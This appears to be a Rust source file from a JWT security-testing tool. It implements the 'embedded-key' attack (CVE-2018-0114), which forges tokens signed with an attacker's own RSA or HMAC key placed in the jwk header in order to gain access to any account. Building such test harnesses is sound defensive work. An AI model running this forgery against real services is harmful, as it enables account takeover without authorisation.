//! A key that comes with the token.

use super::own_key::OwnKey;
use aws_lc_rs::hmac;
use serde_json::json;

use crate::attack::{
    plan::{Attack, Expected, Needs, Tried},
    stage::Stage,
    target::encode,
};

pub(in crate::attack) const ATTACK: Attack = Attack {
    id: "embedded-key",
    title: "A key that comes with the token",
    has: "a key of his own",
    does: "signs a token with it and puts the public key into the header (jwk)",
    gains: "any account",
    source: "RFC 8725 section 3.10; CVE-2018-0114; F033",
    expected: Expected::EVERYWHERE.not_careless_session("it has no tokens"),
    needs: Needs::Requests,
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Tried {
    let (header, claims) = stage.base().await?;
    let mut tokens = Vec::new();
    for keep_name in [true, false] {
        let own = OwnKey::new()?;
        let mut header = header.clone();
        header["alg"] = "RS256".into();
        header["jwk"] = own.jwk();
        if !keep_name {
            header["kid"] = "own".into();
        }
        tokens.push((format!("jwk, RSA, kid {}", header["kid"]), own.token(&header, &claims)?));
        header["alg"] = "HS256".into();
        header["jwk"] = json!({ "kty": "oct", "k": encode("secret") });
        let signed = format!("{}.{}", encode(header.to_string()), encode(claims.to_string()));
        let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, b"secret"), signed.as_bytes());
        tokens.push(("jwk, a secret".to_owned(), format!("{signed}.{}", encode(tag.as_ref()))));
    }
    stage.try_tokens(&tokens).await
}
